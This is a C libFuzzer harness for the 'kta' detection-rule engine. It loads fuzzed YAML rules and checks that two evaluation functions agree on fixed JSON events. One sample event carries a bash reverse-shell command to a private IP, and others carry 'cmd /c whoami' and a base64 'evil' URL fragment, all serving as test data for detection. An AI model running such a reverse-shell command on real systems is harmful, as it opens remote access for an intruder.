/* SPDX-License-Identifier: Apache-2.0 */
/*
 * libFuzzer harness: bytes as one YAML rule file -> kta_rules_load_string
 * (load + compile, both with and without skip_invalid) -> kta_eval and
 * kta_eval_raw against a few fixed events.  Must never crash, leak or
 * hang; a load that fails must say why, and the two eval paths must
 * agree on the number of hits.
 */
#include "rules_int.h"

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

int LLVMFuzzerInitialize(int *argc, char ***argv);
int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static const char *const events[] = {
    "{\"host\":\"web-1\",\"process\":{\"name\":\"bash\",\"command_line\":"
    "\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\",\"pid\":4242},\"user\":{\"name\":\"root\"},"
    "\"event\":{\"code\":4625,\"category\":\"process\"},\"dst\":{\"ip\":\"10.1.2.3\",\"port\":443},"
    "\"tags\":[\"one\",\"two\"],\"ok\":true,\"none\":null}",
    "{\"msg\":\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!\","
    "\"Image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"CommandLine\":\"cmd /c whoami\","
    "\"process.name\":\"flat\",\"n\":1e3,\"f\":-0.5,\"u\":\"\\u00c4RGER \\u212aelvin\"}",
    "{\"a\":[{\"b\":[1,2,{\"c\":\"deep\"}]},\"x\",null],\"SGVsbG8gd29ybGQ\":\"aHR0cDovL2V2aWwu\"}",
    "{}",
};

#define NEVENTS (sizeof(events) / sizeof(events[0]))

static json_t *evs[NEVENTS];
static struct kta_eval_ctx *ctx;
static size_t ndiag;

static void on_diag(void *opaque, enum kta_diag_kind kind, const char *msg)
{
    (void)opaque;
    (void)kind;
    if (!msg || !*msg)
        abort();
    ndiag++;
}

static void on_hit(void *opaque, const struct kta_rule *r)
{
    size_t *n = opaque;

    if (!kta_rule_id(r) || !kta_rule_level(r))
        abort();
    (*n)++;
}

int LLVMFuzzerInitialize(int *argc, char ***argv)
{
    (void)argc;
    (void)argv;
    kta_log_threshold = KTA_LOG_ERROR;
    for (size_t i = 0; i < NEVENTS; i++) {
        evs[i] = json_loads(events[i], JSON_REJECT_DUPLICATES, NULL);
        if (!evs[i])
            abort();
    }
    ctx = kta_eval_ctx_new();
    return 0;
}

static void run(const uint8_t *data, size_t size, int skip_invalid)
{
    struct kta_rules_opts opts = { .skip_invalid = skip_invalid, .diag = on_diag };
    struct kta_rules_stats st;
    struct kta_ruleset *rs;
    char err[512];

    err[0] = '\0';
    ndiag = 0;
    rs = kta_rules_load_string("fuzz.yml", (const char *)data, size, &opts, &st,
                               err, sizeof(err));
    if (!rs) {
        if (!err[0] || st.errors == 0 || ndiag == 0) {
            fprintf(stderr, "load failed without a message\n");
            abort();
        }
        return;
    }
    if (kta_ruleset_count(rs) != st.rules)
        abort();
    for (size_t i = 0; i < kta_ruleset_count(rs); i++) {
        const struct kta_rule *r = kta_ruleset_rule(rs, i);

        if (!kta_rule_id(r) || !kta_rule_title(r) || !json_is_array(kta_rule_tags(r)))
            abort();
    }
    for (size_t i = 0; i < NEVENTS; i++) {
        size_t a = 0, b = 0;
        enum kta_event_error e;
        char detail[128];
        json_t *evr = NULL;
        long n;

        kta_eval(rs, ctx, evs[i], on_hit, &a);
        n = kta_eval_raw(rs, ctx, events[i], strlen(events[i]), 0, on_hit, &b, &evr,
                         &e, detail, sizeof(detail));
        json_decref(evr);
        if (n < 0 || (size_t)n != b || a != b) {
            fprintf(stderr, "event %zu: kta_eval %zu hits, kta_eval_raw %ld (%zu)\n", i, a, n, b);
            abort();
        }
    }
    kta_ruleset_decref(rs);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    run(data, size, 0);
    run(data, size, 1);
    return 0;
}
